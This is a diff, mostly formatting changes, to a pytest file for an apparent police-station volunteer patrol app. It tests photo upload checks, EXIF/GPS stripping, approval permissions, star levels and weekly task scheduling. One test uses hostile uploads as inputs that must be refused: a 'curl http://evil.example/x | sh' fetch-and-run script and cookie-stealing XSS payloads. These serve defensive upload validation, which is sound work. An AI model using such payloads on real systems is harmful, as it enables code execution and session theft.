@@ -5,6 +5,7 @@ decisions by people who may not decide. Each refusal leaves nothing behind:
 no submission, no photo row, no file, no points. Also: service hours and
 star levels, and tasks posted from a weekly pattern.
 """
+
 import os
 from datetime import date, datetime, timedelta
 from io import BytesIO
@@ -119,12 +120,16 @@ def test_a_truncated_jpeg_is_refused(ctx):
     assert_nothing_stored(ctx)
 
 
-@pytest.mark.parametrize("content", [
-    b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
-    b"<script>alert(document.cookie)</script>",
-    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
-    b"",
-], ids=["shell", "html", "svg", "empty"])
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
+        b"<script>alert(document.cookie)</script>",
+        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+        b"",
+    ],
+    ids=["shell", "html", "svg", "empty"],
+)
 def test_a_file_that_is_not_a_photo_is_refused_whatever_it_is_called(ctx, content):
     # the domain sees bytes only; a name ending in .jpg changes nothing
     error = refused(lambda: patrol(ctx, "beta", volunteer(ctx, "beta"), [content]), 400)
@@ -158,8 +163,10 @@ def test_gps_and_other_exif_are_stripped_from_a_stored_photo(ctx):
     exif = Image.Exif()
     exif[ExifTags.Base.Make] = "PoliceCam"
     exif[ExifTags.Base.GPSInfo] = {
-        ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (25.0, 2.0, 30.0),
-        ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (102.0, 42.0, 0.0),
+        ExifTags.GPS.GPSLatitudeRef: "N",
+        ExifTags.GPS.GPSLatitude: (25.0, 2.0, 30.0),
+        ExifTags.GPS.GPSLongitudeRef: "E",
+        ExifTags.GPS.GPSLongitude: (102.0, 42.0, 0.0),
     }
     sent = photo_bytes(size=(800, 600), exif=exif)
     with Image.open(BytesIO(sent)) as original:  # the test photo does carry a position
@@ -195,11 +202,14 @@ def test_photos_are_stored_by_station_and_local_date_with_a_thumbnail(ctx):
     )
 
 
-@pytest.mark.parametrize("type_key, count, wanted", [
-    ("patrol", 0, "1 to 9"),
-    ("patrol", 10, "1 to 9"),
-    ("illegal_posters", 1, "2 to 9"),
-])
+@pytest.mark.parametrize(
+    "type_key, count, wanted",
+    [
+        ("patrol", 0, "1 to 9"),
+        ("patrol", 10, "1 to 9"),
+        ("illegal_posters", 1, "2 to 9"),
+    ],
+)
 def test_too_few_or_too_many_photos_are_refused(ctx, type_key, count, wanted):
     vol = volunteer(ctx, "beta")
     error = refused(lambda: patrol(ctx, "beta", vol, [photo_bytes()] * count, type=type_key), 400)
@@ -214,7 +224,10 @@ def test_too_few_or_too_many_photos_are_refused(ctx, type_key, count, wanted):
 
 def test_a_missing_required_extra_field_is_named(ctx):
     vol = volunteer(ctx, "beta")
-    call = lambda: patrol(ctx, "beta", vol, [photo_bytes()], type="business_info", fields={"address": "护国路 3 号"})
+
+    def call():
+        return patrol(ctx, "beta", vol, [photo_bytes()], type="business_info", fields={"address": "护国路 3 号"})
+
     error = refused(call, 400)
     assert list(error.fields) == ["fields.business_name"]
     assert_nothing_stored(ctx)
@@ -229,7 +242,16 @@ def test_extra_fields_for_a_type_without_any_are_refused(ctx):
 def test_work_for_a_task_not_signed_up_for_is_refused(ctx):
     task = make_task(ctx, "beta", type_key="patrol")
     data = load_submission({"task_id": task.id, "text": "巡查"})
-    call = lambda: submit(station(ctx, "beta"), volunteer(ctx, "beta"), data, [photo_bytes()], now=task.starts_at + timedelta(minutes=10))
+
+    def call():
+        return submit(
+            station(ctx, "beta"),
+            volunteer(ctx, "beta"),
+            data,
+            [photo_bytes()],
+            now=task.starts_at + timedelta(minutes=10),
+        )
+
     refused(call, 409, code="not_signed_up")
     assert_nothing_stored(ctx)
 
@@ -237,7 +259,16 @@ def test_work_for_a_task_not_signed_up_for_is_refused(ctx):
 def test_work_for_another_stations_task_is_not_found(ctx):
     task = make_task(ctx, "alpha", type_key="patrol")
     data = load_submission({"task_id": task.id, "text": "巡查"})
-    call = lambda: submit(station(ctx, "beta"), volunteer(ctx, "beta"), data, [photo_bytes()], now=task.starts_at + timedelta(minutes=10))
+
+    def call():
+        return submit(
+            station(ctx, "beta"),
+            volunteer(ctx, "beta"),
+            data,
+            [photo_bytes()],
+            now=task.starts_at + timedelta(minutes=10),
+        )
+
     refused(call, 404, code="not_found")
     assert_nothing_stored(ctx)
 
@@ -257,8 +288,16 @@ def test_a_type_switched_off_in_the_station_config_is_not_offered(ctx):
 
     # a task of that type posted before it was switched off: hidden, closed to sign-ups and work
     now = utcnow()
-    old = Task.create(station=gamma.id, type_key="patrol", title="巡查", place="甲路", starts_at=now + timedelta(hours=1),
-                      ends_at=now + timedelta(hours=2), capacity=3, created_by=boss.id)
+    old = Task.create(
+        station=gamma.id,
+        type_key="patrol",
+        title="巡查",
+        place="甲路",
+        starts_at=now + timedelta(hours=1),
+        ends_at=now + timedelta(hours=2),
+        capacity=3,
+        created_by=boss.id,
+    )
     assert old.id not in [task.id for task in upcoming_tasks(gamma)]
     refused(lambda: sign_up(gamma, vol, old.id), 404, code="not_found")
     Signup.create(station=gamma.id, task=old.id, volunteer=vol.id)  # signed up while it was on
@@ -280,7 +319,9 @@ def test_a_volunteer_cannot_decide_and_nor_can_another_stations_officer(ctx):
     refused(lambda: decide(beta, vol, submission.id, "approve"), 403, code="staff_only")  # not even their own
     refused(lambda: decide(beta, officer(ctx, "alpha"), submission.id, "approve"), 403, code="staff_only")
     # an officer of another station, at their own station: the submission is not there
-    refused(lambda: decide(station(ctx, "alpha"), officer(ctx, "alpha"), submission.id, "approve"), 404, code="not_found")
+    refused(
+        lambda: decide(station(ctx, "alpha"), officer(ctx, "alpha"), submission.id, "approve"), 404, code="not_found"
+    )
     stored = Submission.get_by_id(submission.id)
     assert stored.state == SubmissionState.PENDING and stored.decided_by_id is None
     assert Review.select().count() == 0 and LedgerEntry.select().count() == 0
@@ -294,8 +335,16 @@ def test_a_volunteer_cannot_decide_and_nor_can_another_stations_officer(ctx):
 
 def _self_started(app, slug, vol, type_key, hours, end):
     start = end - timedelta(hours=hours)
-    return patrol(app, slug, vol, [photo_bytes()], type=type_key, now=end,
-                  started_at=start.isoformat() + "+00:00", ended_at=end.isoformat() + "+00:00")
+    return patrol(
+        app,
+        slug,
+        vol,
+        [photo_bytes()],
+        type=type_key,
+        now=end,
+        started_at=start.isoformat() + "+00:00",
+        ended_at=end.isoformat() + "+00:00",
+    )
 
 
 def test_approved_minutes_reach_the_default_star_levels(ctx):
@@ -324,7 +373,17 @@ def test_approved_minutes_reach_the_default_star_levels(ctx):
         {"type_key": "traffic_guiding", "count": 2, "minutes": 1200},
     ]
     assert Submission.get_by_id(pending.id).state == SubmissionState.PENDING
-    assert [star_level(beta, h * 60) for h in (99, 100, 299, 300, 600, 1000, 1499, 1500, 9999)] == [0, 1, 1, 2, 3, 4, 4, 5, 5]
+    assert [star_level(beta, h * 60) for h in (99, 100, 299, 300, 600, 1000, 1499, 1500, 9999)] == [
+        0,
+        1,
+        1,
+        2,
+        3,
+        4,
+        4,
+        5,
+        5,
+    ]
 
 
 def test_star_levels_follow_the_stations_star_hours(ctx):
@@ -373,23 +432,33 @@ def test_a_school_week_pattern_gives_ten_tasks_at_half_past_eleven_utc_the_day_b
     series, tasks = post_weekly(beta, officer(ctx, "beta"), weekly(), now=BEFORE)
     school_days = [MONDAY + timedelta(days=d) for d in range(14) if (MONDAY + timedelta(days=d)).isoweekday() <= 5]
     assert len(tasks) == 10 and series.weekdays == "12345"
-    assert [task.starts_at for task in tasks] == [datetime.combine(d - timedelta(days=1), datetime.min.time()).replace(hour=23, minute=30) for d in school_days]
+    assert [task.starts_at for task in tasks] == [
+        datetime.combine(d - timedelta(days=1), datetime.min.time()).replace(hour=23, minute=30) for d in school_days
+    ]
     assert all(task.ends_at - task.starts_at == timedelta(hours=1) for task in tasks)
     assert all(task.series_id == series.id and task.capacity == 4 and task.taken == 0 for task in tasks)
 
 
 def test_skip_dates_are_left_out(ctx):
     wednesday, next_friday = MONDAY + timedelta(days=2), MONDAY + timedelta(days=11)
-    _series, tasks = post_weekly(station(ctx, "beta"), officer(ctx, "beta"),
-                                 weekly(skip_dates=[wednesday.isoformat(), next_friday.isoformat()]), now=BEFORE)
+    _series, tasks = post_weekly(
+        station(ctx, "beta"),
+        officer(ctx, "beta"),
+        weekly(skip_dates=[wednesday.isoformat(), next_friday.isoformat()]),
+        now=BEFORE,
+    )
     local_days = [(task.starts_at + timedelta(hours=8)).date() for task in tasks]
     assert len(tasks) == 8 and wednesday not in local_days and next_friday not in local_days
 
 
 def test_an_overnight_shift_ends_the_next_day(ctx):
     friday = MONDAY + timedelta(days=4)
-    _series, tasks = post_weekly(station(ctx, "beta"), officer(ctx, "beta"),
-                                 weekly(weekdays=[5], start_time="20:00", end_time="02:00"), now=BEFORE)
+    _series, tasks = post_weekly(
+        station(ctx, "beta"),
+        officer(ctx, "beta"),
+        weekly(weekdays=[5], start_time="20:00", end_time="02:00"),
+        now=BEFORE,
+    )
     assert len(tasks) == 2
     first = tasks[0]
     assert first.starts_at == datetime(2030, 9, 6, 12, 0)  # 20:00 on Friday in Kunming
